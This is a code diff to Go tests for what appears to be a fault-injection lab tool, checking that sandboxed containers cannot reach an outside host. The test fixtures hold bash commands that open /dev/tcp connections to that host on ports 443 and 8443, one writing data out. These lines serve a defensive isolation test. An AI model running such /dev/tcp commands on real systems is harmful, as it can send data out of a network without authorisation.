@@ -10,6 +10,7 @@ import (
 
 	"github.com/moby/moby/client"
 
+	"github.com/stormdrill/stormdrill/faults/secret"
 	"github.com/stormdrill/stormdrill/scenarios"
 	"github.com/stormdrill/stormdrill/scenarios/timeline"
 )
@@ -26,7 +27,7 @@ func TestLabLetsNothingOut(t *testing.T) {
 	l, err := open(t, "bad-lb-node", run, func(p *scenarios.Plan) {
 		p.Nodes[0].Spec = &scenarios.Target{
 			Image:   "stormdrill-test/base:debian",
-			Command: []string{"bash", "-c", `for i in 1 2; do timeout 1 bash -c "echo > /dev/tcp/` + outside + `/443" || echo "no way out"; done; echo tried; exec sleep 600`},
+			Command: []secret.Text{"bash", "-c", `for i in 1 2; do timeout 1 bash -c "echo > /dev/tcp/` + outside + `/443" || echo "no way out"; done; echo tried; exec sleep 600`},
 			Ready:   &scenarios.Ready{Log: "tried"},
 		}
 	})
@@ -71,7 +72,7 @@ func TestLabSaysWhatATargetTried(t *testing.T) {
 	_, err := open(t, "bad-lb-node", run, func(p *scenarios.Plan) {
 		p.Nodes[0].Spec = &scenarios.Target{
 			Image:   "stormdrill-test/base:debian",
-			Command: []string{"bash", "-c", "echo licence > /dev/tcp/" + outside + "/8443"},
+			Command: []secret.Text{"bash", "-c", "echo licence > /dev/tcp/" + outside + "/8443"},
 			Ready:   &scenarios.Ready{Log: "licensed", Within: 3 * time.Second},
 		}
 	})
